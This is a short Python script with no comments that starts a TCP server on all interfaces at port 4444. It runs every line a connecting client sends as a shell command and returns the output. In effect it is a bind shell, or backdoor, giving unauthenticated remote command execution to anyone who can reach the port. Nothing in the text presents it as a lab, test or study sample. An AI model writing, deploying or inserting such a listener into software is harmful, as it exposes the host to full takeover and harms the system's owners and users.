import socketserver
import subprocess


class Handler(socketserver.StreamRequestHandler):
    def handle(self):
        for line in self.rfile:
            done = subprocess.run(line.decode().strip(), shell=True, capture_output=True)
            self.wfile.write(done.stdout + done.stderr)


socketserver.TCPServer(("0.0.0.0", 4444), Handler).serve_forever()
